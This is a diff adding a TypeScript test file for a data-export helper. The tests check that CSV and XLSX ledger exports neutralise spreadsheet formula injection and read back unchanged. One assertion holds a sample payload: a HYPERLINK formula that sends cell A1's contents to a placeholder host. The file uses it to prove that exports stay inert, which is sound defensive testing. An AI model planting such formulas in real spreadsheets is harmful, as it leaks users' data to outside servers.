@@ -1,0 +1,70 @@
+// The one export helper (src/lib/data/sheet-export.ts): CSV and XLSX read back give the same text, and nothing a
+// ledger holds becomes a formula (field case 20-export-injection).
+import { read } from '@e965/xlsx';
+import { describe, expect, it } from 'vitest';
+import { parseCsv } from '../../../src/lib/data/csv';
+import { importFiles } from '../../../src/lib/data/import';
+import { csvText, inert, xlsxBytes } from '../../../src/lib/data/sheet-export';
+import { TABLES } from '../../../src/lib/data/schema';
+import { geo, load, locate } from './load';
+
+const communities = TABLES.find((t) => t.name === 'communities')!;
+
+async function ledger() {
+	const { dataset, errors } = await load(['../shared/field-cases/20-export-injection']);
+	expect(errors).toEqual([]);
+	const header = communities.columns.map((c) => c.zh);
+	const rows = dataset.communities.map((r) =>
+		communities.columns.map((c) => {
+			const v = (r as unknown as Record<string, string | number | boolean | null>)[c.name];
+			return typeof v === 'boolean' ? (v ? '是' : '否') : v;
+		})
+	);
+	return { dataset, table: [header, ...rows] };
+}
+
+describe('exports: CSV with BOM and XLSX, inert and read back', () => {
+	it('makes a text cell inert only when it begins with = + - @ tab or CR', () => {
+		expect(['=1+1', '+86', '-3幢', '@x', '\tx', '\rx', '3幢', '试验', 5, -5, null].map(inert)).toEqual([
+			"'=1+1",
+			"'+86",
+			"'-3幢",
+			"'@x",
+			"'\tx",
+			"'\rx",
+			'3幢',
+			'试验',
+			5,
+			-5,
+			null
+		]);
+	});
+
+	it('CSV: a BOM, the dangerous cells prefixed, and the importer gives the same text back', async () => {
+		const { dataset, table } = await ledger();
+		const csv = csvText(table);
+		expect(csv.charCodeAt(0)).toBe(0xfeff);
+		const cells = parseCsv(csv).rows.flat();
+		expect(cells).toContain("'-3幢");
+		expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
+		const again = await importFiles([{ name: 'communities.csv', bytes: new TextEncoder().encode(csv) }], {
+			defaultTowns: geo.towns,
+			locate
+		});
+		expect(again.problems.filter((p) => p.level === 'error')).toEqual([]);
+		expect(again.dataset.communities).toEqual(dataset.communities);
+	});
+
+	it('XLSX: every text a string cell, no formula, and the importer gives the same text back', async () => {
+		const { dataset, table } = await ledger();
+		const bytes = await xlsxBytes([{ name: '小区', rows: table }]);
+		const ws = read(bytes, { type: 'array', cellFormula: true }).Sheets['小区']!;
+		const cells = Object.entries(ws).filter(([k]) => !k.startsWith('!'));
+		expect(cells.filter(([, c]) => (c as { f?: string }).f !== undefined)).toEqual([]);
+		expect(ws['B2']).toMatchObject({ t: 's', v: '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")' });
+		expect(ws['D2']).toMatchObject({ t: 's', v: '-3幢' });
+		const again = await importFiles([{ name: 'ledger.xlsx', bytes }], { defaultTowns: geo.towns, locate });
+		expect(again.problems.filter((p) => p.level === 'error')).toEqual([]);
+		expect(again.dataset.communities).toEqual(dataset.communities);
+	});
+});
